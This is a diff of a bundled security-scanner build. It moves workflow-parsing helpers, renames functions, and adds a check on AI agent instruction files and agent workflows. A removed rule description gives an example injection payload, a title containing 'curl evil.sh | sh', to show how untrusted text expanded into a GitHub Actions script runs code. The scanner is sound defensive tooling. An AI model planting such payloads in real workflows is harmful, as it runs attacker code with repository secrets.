17-256"}],"instruction-files":["(?:^|/)CLAUDE(?:\\\\.local)?\\\\.md$","(?:^|/)AGENTS?\\\\.md$","(?:^|/)GEMINI\\\\.md$","(?:^|/)CONVENTIONS\\\\.md$","(?:^|/)\\\\.cursorrules$","(?:^|/)\\\\.cursor/rules/","(?:^|/)\\\\.windsurfrules$","(?:^|/)\\\\.windsurf/rules/","(?:^|/)\\\\.clinerules(?:/|$)","(?:^|/)\\\\.roorules$","(?:^|/)\\\\.roo/rules(?:-[^/]+)?/","(?:^|/)\\\\.github/copilot-instructions\\\\.md$","(?:^|/)\\\\.github/instructions/","(?:^|/)\\\\.github/prompts/","(?:^|/)\\\\.github/chatmodes/","(?:^|/)\\\\.junie/guidelines\\\\.md$","(?:^|/)\\\\.kiro/steering/","(?:^|/)\\\\.amazonq/rules/","(?:^|/)\\\\.aider\\\\.conf\\\\.ya?ml$","(?:^|/)\\\\.claude/(?:agents|commands|skills)/"],"skipped-extensions":["png","jpg","jpeg","gif","bmp","ico","icns","webp","avif","tif","tiff","psd","pdf","zip","gz","tgz","bz2","xz","zst","7z","rar","jar","war","ear","class","dll","exe","so","dylib","a","o","obj","lib","bin","wasm","pyc","pyo","whl","woff","woff2","ttf","otf","eot","mp3","mp4","m4a","wav","ogg","flac","mov","avi","mkv","webm","db","sqlite","sqlite3","parquet","avro","onnx","pt","pth","safetensors","npy","npz","pkl","h5","map"],"translation-catalogs":["po","pot","xlf","xliff","strings","stringsdict","arb","ftl","resx"]}');
 ;// CONCATENATED MODULE: ./src/scanners/builtin/hidden-unicode.ts
 /** Finding invisible and reordering characters in text, without flagging their legitimate uses. */
 const KINDS = ['bidi', 'zero-width', 'invisible-text'];
@@ -55761,50 +56082,6 @@ function hiddenScanner(ranges) {
         }
         return hits;
     };
-}
-
-;// CONCATENATED MODULE: ./src/scanners/builtin/yaml-nodes.ts
-
-/**
- * Read-only navigation of parsed YAML for checks: every helper takes `unknown`, follows aliases and answers
- * "nothing" for a node of the wrong kind, so hostile or odd documents never throw.
- */
-function yaml_nodes_resolve(node, document) {
-    return (0,yaml_dist/* isAlias */.Vj)(node) ? node.resolve(document) : node;
-}
-/** The string-keyed entries of a mapping, values resolved; empty for anything that is not a mapping. */
-function entriesOf(node, document) {
-    const map = yaml_nodes_resolve(node, document);
-    if (!(0,yaml_dist/* isMap */.jh)(map))
-        return [];
-    return map.items.flatMap((pair) => (0,yaml_dist/* isScalar */.jn)(pair.key) && typeof pair.key.value === 'string'
-        ? [{ key: pair.key.value, keyNode: pair.key, value: yaml_nodes_resolve(pair.value, document) }]
-        : []);
-}
-function entryOf(node, key, document) {
-    return entriesOf(node, document).find((entry) => entry.key === key);
-}
-/** The value under `key` in a mapping, following aliases. */
-function yaml_nodes_valueOf(node, key, document) {
-    return entryOf(node, key, document)?.value;
-}
-function yaml_nodes_itemsOf(node, document) {
-    const seq = yaml_nodes_resolve(node, document);
-    return (0,yaml_dist/* isSeq */.oP)(seq) ? seq.items.map((item) => yaml_nodes_resolve(item, document)) : [];
-}
-function stringScalar(node) {
-    return (0,yaml_dist/* isScalar */.jn)(node) && typeof node.value === 'string' ? node : undefined;
-}
-function stringOf(node) {
-    return stringScalar(node)?.value;
-}
-/** Line starts of any text, so non-YAML checks report positions exactly as `scalarRegion` does. */
-function lineCounterOf(text) {
-    const lines = new yaml_dist/* LineCounter */.HN();
-    lines.addNewLine(0);
-    for (let at = text.indexOf('\n'); at >= 0; at = text.indexOf('\n', at + 1))
-        lines.addNewLine(at + 1);
-    return lines;
 }
 
 ;// CONCATENATED MODULE: ./src/scanners/builtin/checks/ai-instructions-integrity.ts
@@ -56271,7 +56548,7 @@ const GITHUB_YAML = /^\.github\/|(?:^|\/)action\.ya?ml$/;
 function container_unpinned_appliesTo(path) {
     return isDockerfile(path) || (YAML.test(path) && !GITHUB_YAML.test(path));
 }
-function detection(context, found) {
+function container_unpinned_detection(context, found) {
     const pinning = imagePinning(found.reference);
     if (pinning?.kind !== 'floating')
         return [];
@@ -56292,7 +56569,7 @@ function regionOf(use) {
     return { startLine: start.line, startColumn: start.col, endLine: end.line, endColumn: end.col };
 }
 function dockerfileDetections(context) {
-    return dockerfileImages(parseDockerfile(context.file.text)).flatMap((use) => detection(context, {
+    return dockerfileImages(parseDockerfile(context.file.text)).flatMap((use) => container_unpinned_detection(context, {
         reference: use.reference,
         ...(use.via === undefined ? {} : { via: use.via }),
         region: regionOf(use),
@@ -56309,7 +56586,7 @@ function yamlDetections(context, images, lines) {
         if (reference === undefined)
             return [];
         const via = reference === written ? undefined : `\`${shown(written)}\` is \`${shown(reference)}\` by default`;
-        return detection(context, {
+        return container_unpinned_detection(context, {
             reference,
             ...(via === undefined ? {} : { via }),
             region: scalarRegion(scalar, lines),
@@ -58217,86 +58494,13 @@ function createDependencyHallucinationCheck(options = {}) {
     };
 }
 
-;// CONCATENATED MODULE: ./data/checks/workflow-injection.json
-const workflow_injection_namespaceObject = /*#__PURE__*/JSON.parse('{"id":"workflow-injection","title":"Attacker-controlled text expanded into a workflow script","description":"A `run:` script or the `script:` of actions/github-script contains a `${{ … }}` expression that expands text an outsider controls: the title or body of an issue, pull request, comment or review, a branch name, a commit message or author, a wiki page name. GitHub substitutes the text into the script before the shell or JavaScript runs it, so a title such as `\\"; curl evil.sh | sh; #` becomes code running with the workflow\'s token and secrets.","help":"Never expand untrusted context values inside a script. Pass them to the step as environment variables and use the variable, quoted, so the shell treats the value as data:\\n\\n```yaml\\n# instead of\\n- run: echo \\"${{ github.event.issue.title }}\\"\\n# write\\n- env:\\n    TITLE: ${{ github.event.issue.title }}\\n  run: echo \\"$TITLE\\"\\n```\\n\\nIn actions/github-script, read the value from `context.payload` or from `process.env` instead of expanding it into `script:`. Whole objects such as `toJSON(github.event)` carry the same text and need the same treatment. Where possible, also give the workflow\'s token only the permissions it needs.\\n\\nReferences:\\n- GitHub, [Script injections](https://docs.github.com/en/actions/concepts/security/script-injections)\\n- GitHub Security Lab, [Keeping your GitHub Actions and workflows secure: untrusted input](https://securitylab.github.com/resources/github-actions-untrusted-input/)","helpUri":"https://docs.github.com/en/actions/concepts/security/script-injections","cwe":["CWE-78","CWE-94"],"severity":"high","security-severity":8.8,"precision":"high","tags":["security","injection","github-actions"],"asvs":["v5.0.0-1.2.5","v5.0.0-1.3.2"],"$comment":"Context paths whose values outsiders control, after GitHub\'s own list (contexts ending in body, default_branch, email, head_ref, label, message, name, page_name, ref, title) and GitHub Security Lab\'s. `*` stands for one array index or object filter. An expression naming a path, or an object that contains one (toJSON(github.event)), is reported.","untrusted-contexts":["github.head_ref","github.event.issue.title","github.event.issue.body","github.event.pull_request.title","github.event.pull_request.body","github.event.pull_request.head.ref","github.event.pull_request.head.label","github.event.pull_request.head.repo.default_branch","github.event.comment.body","github.event.review.body","github.event.review_comment.body","github.event.discussion.title","github.event.discussion.body","github.event.pages.*.page_name","github.event.commits.*.message","github.event.commits.*.author.email","github.event.commits.*.author.name","github.event.commits.*.committer.email","github.event.commits.*.committer.name","github.event.head_commit.message","github.event.head_commit.author.email","github.event.head_commit.author.name","github.event.head_commit.committer.email","github.event.head_commit.committer.name","github.event.workflow_run.head_branch","github.event.workflow_run.display_title","github.event.workflow_run.head_commit.message","github.event.workflow_run.head_commit.author.email","github.event.workflow_run.head_commit.author.name","github.event.workflow_run.pull_requests.*.head.ref"]}');
-;// CONCATENATED MODULE: ./src/scanners/builtin/workflow-model.ts
-
-
-/** GitHub reads workflows only from this directory, not from its subdirectories. */
-const workflow_model_WORKFLOW = /^\.github\/workflows\/[^/]+\.ya?ml$/;
-const workflow_model_ACTION_METADATA = /(?:^|\/)action\.ya?ml$/;
-const isWorkflow = (path) => workflow_model_WORKFLOW.test(path);
-const isWorkflowOrAction = (path) => workflow_model_WORKFLOW.test(path) || workflow_model_ACTION_METADATA.test(path);
-/**
- * Parses a workflow or action file, answering undefined when it is not valid YAML. The checks on these files
- * stay silent then: actions-unpinned reads the same files and already reports each one that does not parse,
- * and one note per file is enough.
- */
-function parseWorkflowFile(file) {
-    const parsed = check_parseYaml(file);
-    return parsed.kind === 'parsed' ? parsed : undefined;
-}
-function jobsOf(document) {
-    return entriesOf(yaml_nodes_valueOf(document.contents, 'jobs', document), document).map((entry) => ({
-        id: entry.key,
-        node: entry.value,
-    }));
-}
-function compositeSteps(document) {
-    const runs = yaml_nodes_valueOf(document.contents, 'runs', document);
-    if (stringOf(yaml_nodes_valueOf(runs, 'using', document))
-        ?.trim()
-        .toLowerCase() !== 'composite')
-        return [];
-    return yaml_nodes_itemsOf(yaml_nodes_valueOf(runs, 'steps', document), document).map((node, at) => ({
-        node,
-        job: undefined,
-        index: at + 1,
-    }));
-}
-/** Every step of every job of a workflow, or of a composite action (other actions have no steps). */
-function stepsOf(path, document) {
-    if (!isWorkflow(path))
-        return compositeSteps(document);
-    return jobsOf(document).flatMap((job) => yaml_nodes_itemsOf(yaml_nodes_valueOf(job.node, 'steps', document), document).map((node, at) => ({
-        node,
-        job: job.id,
-        index: at + 1,
-    })));
-}
-/** How a message names a step: by its `name:` when it has one, else by position. */
-function describeStep(step, document) {
-    const name = stringOf(yaml_nodes_valueOf(step.node, 'name', document));
-    const which = name === undefined ? `step ${step.index}` : `step "${name.slice(0, 80)}"`;
-    return step.job === undefined ? which : `${which} of job \`${step.job}\``;
-}
-/** The events a workflow runs on: `on:` as one name, a list of names or a mapping keyed by event. */
-function triggersOf(document) {
-    const on = yaml_nodes_valueOf(document.contents, 'on', document);
-    const single = stringOf(on);
-    if (single !== undefined)
-        return new Set([single.trim()]);
-    const listed = yaml_nodes_itemsOf(on, document).flatMap((item) => stringOf(item) ?? []);
-    const keyed = entriesOf(on, document).map((entry) => entry.key);
-    return new Set([...listed, ...keyed].map((event) => event.trim()));
-}
-/** Whether a step runs the action `name` (any version; matching is case-insensitive, like GitHub's). */
-function workflow_model_stepUses(step, name, document) {
-    const uses = stringOf(yaml_nodes_valueOf(step.node, 'uses', document))
-        ?.trim()
-        .toLowerCase();
-    return uses !== undefined && (uses === name || uses.startsWith(`${name}@`));
-}
-
 ;// CONCATENATED MODULE: ./src/scanners/builtin/checks/workflow-injection.ts
 
 
 
 
 
-const UNTRUSTED = dataStrings(workflow_injection_namespaceObject, 'untrusted-contexts').map((path) => path.toLowerCase().split('.'));
-const CONTEXT_PATH = /(?<![\w.-])github(?:\.(?:[a-z_][\w-]*|\*))*/g;
-const MAX_EVIDENCE = 200;
+const workflow_injection_MAX_EVIDENCE = 200;
 function sinksOf(path, document) {
     return stepsOf(path, document).flatMap((step) => {
         const where = describeStep(step, document);
@@ -58309,51 +58513,6 @@ function sinksOf(path, document) {
             ...(script ? [{ scalar: script, kind: 'script', step: where }] : []),
         ];
     });
-}
-/** Context names are case-insensitive; `a['b']` is `a.b`, `a[0]` is `a.*`; string literals are not names. */
-function workflow_injection_normalize(expression) {
-    return expression
-        .toLowerCase()
-        .replace(/\[\s*'([^']*)'\s*\]/g, '.$1')
-        .replace(/\[\s*(?:\d+|\*)\s*\]/g, '.*')
-        .replace(/'(?:[^']|'')*'/g, "''")
-        .replace(/\s*\.\s*/g, '.');
-}
-/** A path names an untrusted value, or an object holding one (`toJSON(github.event)`). */
-function untrustedPattern(path) {
-    return UNTRUSTED.find((pattern) => path.length <= pattern.length &&
-        path.every((segment, at) => segment === '*' || pattern[at] === '*' || segment === pattern[at]));
-}
-/** How a message names each untrusted value an expression expands. */
-function untrustedValues(expression) {
-    const named = new Set();
-    for (const match of workflow_injection_normalize(expression).matchAll(CONTEXT_PATH)) {
-        const path = match[0].split('.');
-        const pattern = untrustedPattern(path);
-        if (pattern === undefined)
-            continue;
-        named.add(path.length === pattern.length
-            ? `\`${match[0]}\``
-            : `\`${match[0]}\` (which holds \`${pattern.join('.')}\`)`);
-    }
-    return [...named];
-}
-/** The `${{ … }}` expressions as written in the scalar's source, so positions are exact in block scalars too. */
-function expressionsIn(text, scalar) {
-    if (!scalar.range)
-        return [];
-    const [from, to] = scalar.range;
-    const source = text.slice(from, to);
-    const found = [];
-    let open = source.indexOf('${{');
-    while (open >= 0) {
-        const close = source.indexOf('}}', open + 3);
-        if (close < 0)
-            break;
-        found.push({ start: from + open, end: from + close + 2, text: source.slice(open, close + 2) });
-        open = source.indexOf('${{', close + 2);
-    }
-    return found;
 }
 function messageFor(sink, expression, values) {
     const shown = expression.text.length > 80 ? `${expression.text.slice(0, 79)}…` : expression.text;
@@ -58371,7 +58530,7 @@ function workflow_injection_detectionsFor(sink, context) {
             return [];
         const start = context.lines.linePos(expression.start);
         const end = context.lines.linePos(expression.end);
-        const evidence = expression.text.slice(0, MAX_EVIDENCE);
+        const evidence = expression.text.slice(0, workflow_injection_MAX_EVIDENCE);
         return [
             {
                 ruleId: context.rule.id,
@@ -58380,7 +58539,7 @@ function workflow_injection_detectionsFor(sink, context) {
                     path: context.file.path,
                     region: { startLine: start.line, startColumn: start.col, endLine: end.line, endColumn: end.col },
                 },
-                evidence: expression.text.length > MAX_EVIDENCE ? `${evidence}…` : evidence,
+                evidence: expression.text.length > workflow_injection_MAX_EVIDENCE ? `${evidence}…` : evidence,
             },
         ];
     });
@@ -58675,6 +58834,7 @@ const workflowPrTargetCheckout = defineCheck({ meta: workflow_pr_target_checkout
 
 
 
+
 /** Every builtin check; adding one is one file under checks/, one under data/checks/ and one line here. */
 const ALL_CHECKS = [
     actionsUnpinned,
@@ -58682,6 +58842,7 @@ const ALL_CHECKS = [
     workflowPrTargetCheckout,
     workflowPermissions,
     workflowLiteralSecret,
+    agentWorkflowUntrustedPrompt,
     containerUnpinned,
     dockerfileRemoteCode,
     aiInstructionsIntegrity,
@@ -64646,7 +64807,7 @@ function killGroup(pid) {
 
 __nccwpck_require__.a(module, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
 /* harmony import */ var _core_node_http_client_js__WEBPACK_IMPORTED_MODULE_6__ = __nccwpck_require__(1950);
-/* harmony import */ var _cli_main_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(89007);
+/* harmony import */ var _cli_main_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(41617);
 /* harmony import */ var _cli_console_logger_js__WEBPACK_IMPORTED_MODULE_5__ = __nccwpck_require__(58328);
 /* harmony import */ var _core_node_file_system_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(586);
 /* harmony import */ var _core_node_process_runner_js__WEBPACK_IMPORTED_MODULE_2__ = __nccwpck_require__(10738);
